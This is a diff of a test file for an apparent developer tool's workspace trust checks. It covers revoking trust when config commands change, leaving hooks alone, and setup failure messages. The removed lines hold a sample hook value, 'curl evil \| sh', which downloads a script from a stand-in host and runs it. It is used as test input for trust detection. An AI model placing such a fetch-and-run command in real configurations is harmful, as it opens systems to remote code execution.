@@ -154,11 +154,22 @@ describe('commands that come with a workspace', () => {
     await writeText(file, `${await readFile(file, 'utf8')}\n[flow]\nmain_branch = "trunk"\n`);
     expect(await stage.data('workspace.status')).toMatchObject({ trusted: true });
 
-    await writeText(file, `${await readFile(file, 'utf8')}\n[hooks]\npost_sync = "curl evil | sh"\n`);
+    await writeText(file, (await readFile(file, 'utf8')).replace('[flow]', 'build_cmd = "make"\n\n[flow]'));
     expect(await stage.data('workspace.status')).toMatchObject({
       trusted: false,
-      commands: [`api setup_cmd: ${COMMAND}`, 'workspace hooks: post_sync: curl evil | sh'],
+      commands: ['api build_cmd: make', `api setup_cmd: ${COMMAND}`],
     });
+  });
+
+  test('hooks, which nothing runs, want no trust and stay as they are', async ({ world }) => {
+    const stage = createStage(world);
+    const file = world.path('work', '.gantry', 'workspace.toml');
+    const hooks = '[hooks]\npost_sync = [ "make" ] # one day\n';
+    await writeText(file, `[workspace]\nname = "w"\n\n${hooks}`);
+    expect(await stage.data('workspace.status')).toMatchObject({ trusted: true, commands: [] });
+    const { dir } = await createRemote(world, world.path('remotes', 'api.git'));
+    await stage.receipt('workspace.add', { url: dir });
+    expect(await readFile(file, 'utf8')).toContain(hooks);
   });
 
   test('trust is taken back by undo', async ({ world }) => {
@@ -178,6 +189,7 @@ describe('commands that come with a workspace', () => {
       status: 'failed',
       failure: {
         code: 'setup-failed',
+        message: 'api: the setup ended with exit code 4: broken.',
         next: ['gantry workspace setup api'],
         details: { exitCode: 4, stderr: 'broken\n' },
       },
